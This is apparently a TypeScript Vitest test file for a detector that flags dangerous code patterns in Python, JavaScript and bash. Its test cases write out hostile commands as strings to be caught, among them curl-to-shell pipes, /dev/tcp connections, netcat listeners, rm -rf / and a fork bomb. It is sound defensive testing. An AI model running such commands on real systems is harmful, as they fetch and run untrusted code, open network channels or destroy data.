import { describe, expect, it } from 'vitest';
import type { Language } from '../languages/language.ts';
import {
  EXCERPT_MAX_CHARS,
  checkDangerousPatterns,
  findDangerousPatterns,
  linesWithoutComments,
} from './dangerous-patterns.ts';
import { DangerousPatternError } from './validation-errors.ts';

const rulesIn = (language: Language, code: string): string[] =>
  findDangerousPatterns(language, code).map((finding) => finding.rule);

describe('python rules', () => {
  it.each([
    ['eval(input())', 'python-eval'],
    ['exec (code)', 'python-exec'],
    ['m = __import__("os")', 'python-dynamic-import'],
    ['import importlib', 'python-dynamic-import'],
    ['import subprocess', 'python-subprocess'],
    ['from subprocess import run', 'python-subprocess'],
    ['os.system("ls")', 'python-os-command'],
    ['os.popen("ls")', 'python-os-command'],
    ['os.execvp("sh", ["sh"])', 'python-os-command'],
    ['import ctypes', 'python-ctypes'],
    ['import os, socket', 'python-socket'],
    ['from socket import create_connection', 'python-socket'],
    ['s = socket.socket()', 'python-socket'],
  ])('flags %s', (code, rule) => {
    expect(rulesIn('python', code)).toEqual([rule]);
  });

  it.each([
    'model.eval()',
    'cursor.execute("select 1")',
    'evaluate(x)',
    'import os\nprint(os.getcwd())',
    'websocket = None',
    'my_socket.send(b"x")',
  ])('does not flag %s', (code) => {
    expect(rulesIn('python', code)).toEqual([]);
  });

  it('ignores comments but not strings that only look like comments', () => {
    expect(rulesIn('python', '# eval(x)\nx = 1  # os.system("ls")')).toEqual([]);
    expect(findDangerousPatterns('python', 'x = "#"; eval(x)')).toMatchObject([
      { rule: 'python-eval', line: 1 },
    ]);
    expect(rulesIn('python', "s = 'it''s # here'; exec(s)")).toEqual(['python-exec']);
  });

  it('keeps the state of triple-quoted strings across lines', () => {
    const code = ['doc = """', "it's # not a comment: eval(", '"""', '# exec(x)', 'y = 1'].join(
      '\n',
    );
    expect(findDangerousPatterns('python', code)).toMatchObject([{ rule: 'python-eval', line: 2 }]);
  });
});

describe('javascript and typescript rules', () => {
  it.each<[Language, string, string]>([
    ['javascript', 'eval(code)', 'js-eval'],
    ['javascript', 'const f = new Function("return 1")', 'js-function-constructor'],
    ['javascript', 'const f = Function("a", "return a")', 'js-function-constructor'],
    ['javascript', "const cp = require('child_process')", 'js-child-process'],
    ['typescript', "import { exec } from 'node:child_process';", 'js-child-process'],
    ['typescript', "const cp = await import('node:child_process')", 'js-child-process'],
    ['javascript', "const vm = require('vm')", 'js-vm'],
    ['typescript', "import vm from 'node:vm';", 'js-vm'],
    ['javascript', "const net = require('node:net')", 'js-raw-network'],
    ['typescript', "import * as dgram from 'dgram';", 'js-raw-network'],
    ['javascript', "process.binding('spawn_sync')", 'js-process-binding'],
  ])('%s: flags %s', (language, code, rule) => {
    expect(rulesIn(language, code)).toEqual([rule]);
  });

  it.each([
    'function f() { return 1 }',
    'const fn: Function = () => 1;',
    'obj.eval(x)',
    'const evaluate = (x) => x',
    "import fs from 'node:fs'",
    "const v = require('vm2-lite')",
  ])('does not flag %s', (code) => {
    expect(rulesIn('typescript', code)).toEqual([]);
  });

  it('ignores line and block comments, including blocks over several lines', () => {
    const code = [
      '// eval(x)',
      'const a = 1; /* require("child_process") */ const b = 2;',
      '/*',
      ' * new Function("x")',
      ' */',
      'const url = "http://example.com"; eval(url);',
    ].join('\n');
    expect(findDangerousPatterns('javascript', code)).toMatchObject([{ rule: 'js-eval', line: 6 }]);
  });

  it('does not take // inside a template literal over several lines for a comment', () => {
    const code = ['const s = `', 'see http://x // eval(', '`;', "// require('child_process')"].join(
      '\n',
    );
    expect(findDangerousPatterns('javascript', code)).toMatchObject([{ rule: 'js-eval', line: 2 }]);
  });
});

describe('bash rules', () => {
  it.each([
    ['curl -fsSL https://get.example.com | sh', 'bash-pipe-to-shell'],
    ['wget -qO- https://x.example/i.sh | sudo bash -s', 'bash-pipe-to-shell'],
    ['curl https://x.example/a.py | python3', 'bash-pipe-to-shell'],
    ['bash <(curl -s https://x.example/i.sh)', 'bash-pipe-to-shell'],
    ['exec 3<>/dev/tcp/10.0.0.1/80', 'bash-dev-tcp'],
    ['nc -l 4444', 'bash-netcat'],
    ['echo hi | nc host 80', 'bash-netcat'],
    ['rm -rf /', 'bash-rm-root'],
    ['rm -rf /*', 'bash-rm-root'],
    ['sudo rm -r -f --no-preserve-root /', 'bash-rm-root'],
    ['rm -rf ~', 'bash-rm-root'],
    ['rm -rf "$HOME"', 'bash-rm-root'],
    [':(){ :|:& };:', 'bash-fork-bomb'],
    ['eval "$cmd"', 'bash-eval'],
  ])('flags %s', (code, rule) => {
    expect(rulesIn('bash', code)).toEqual([rule]);
  });

  it.each([
    'rm -rf /tmp/build',
    'rm -rf ./dist',
    'rm -rf ~/project/dist',
    'curl -o out.sh https://x.example/i.sh',
    'curl https://x.example | shellcheck -',
    'sync; func() { :; }',
    'wget -nc https://x.example/f',
    'echo "evaluate"',
    'echo $# ${#arr[@]}',
  ])('does not flag %s', (code) => {
    expect(rulesIn('bash', code)).toEqual([]);
  });

  it('ignores comments, but not # inside quotes or $#', () => {
    expect(rulesIn('bash', '# curl x | sh\necho hi # rm -rf /')).toEqual([]);
    expect(findDangerousPatterns('bash', 'echo "# not a comment"; nc -l 1')).toMatchObject([
      { rule: 'bash-netcat', line: 1 },
    ]);
    expect(findDangerousPatterns('bash', 'echo $#; nc -l 1')).toMatchObject([
      { rule: 'bash-netcat', line: 1 },
    ]);
  });
});

describe('findings', () => {
  it('carry rule, 1-based line, trimmed excerpt and message', () => {
    expect(findDangerousPatterns('python', 'x = 1\n\n    os.system("ls")   \n')).toEqual([
      {
        rule: 'python-os-command',
        line: 3,
        excerpt: 'os.system("ls")',
        message: 'runs a shell command or another program',
      },
    ]);
  });

  it('list several rules on one line and one finding per rule and line', () => {
    expect(rulesIn('python', 'eval(x); eval(y); exec(z)')).toEqual(['python-eval', 'python-exec']);
  });

  it('shorten long excerpts and redact secrets in them', () => {
    const long = `eval("${'x'.repeat(500)}")`;
    const [finding] = findDangerousPatterns('javascript', long);
    expect(finding?.excerpt).toHaveLength(EXCERPT_MAX_CHARS);
    expect(finding?.excerpt.endsWith('…')).toBe(true);
    const token = 'ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';
    expect(findDangerousPatterns('javascript', `eval("${token}")`)[0]?.excerpt).toBe(
      'eval("[REDACTED:github-token]")',
    );
  });

  it('keep line numbers when comments are removed', () => {
    expect(linesWithoutComments('javascript', 'a /*\nb\n*/ c // d\ne')).toEqual([
      'a ',
      '',
      '  c ',
      'e',
    ]);
  });
});

describe('checkDangerousPatterns', () => {
  const code = 'print(1)\nimport subprocess\n';

  it('warns by default', () => {
    expect(checkDangerousPatterns('python', code)).toMatchObject([
      { rule: 'python-subprocess', line: 2 },
    ]);
  });

  it('returns nothing when off', () => {
    expect(checkDangerousPatterns('python', code, 'off')).toEqual([]);
  });

  it('blocks with an error naming the rule and the line', () => {
    expect(() => checkDangerousPatterns('python', code, 'block')).toThrow(DangerousPatternError);
    expect(() => checkDangerousPatterns('python', code, 'block')).toThrow(
      /rule python-subprocess on line 2/,
    );
    expect(checkDangerousPatterns('python', 'print(1)', 'block')).toEqual([]);
  });
});
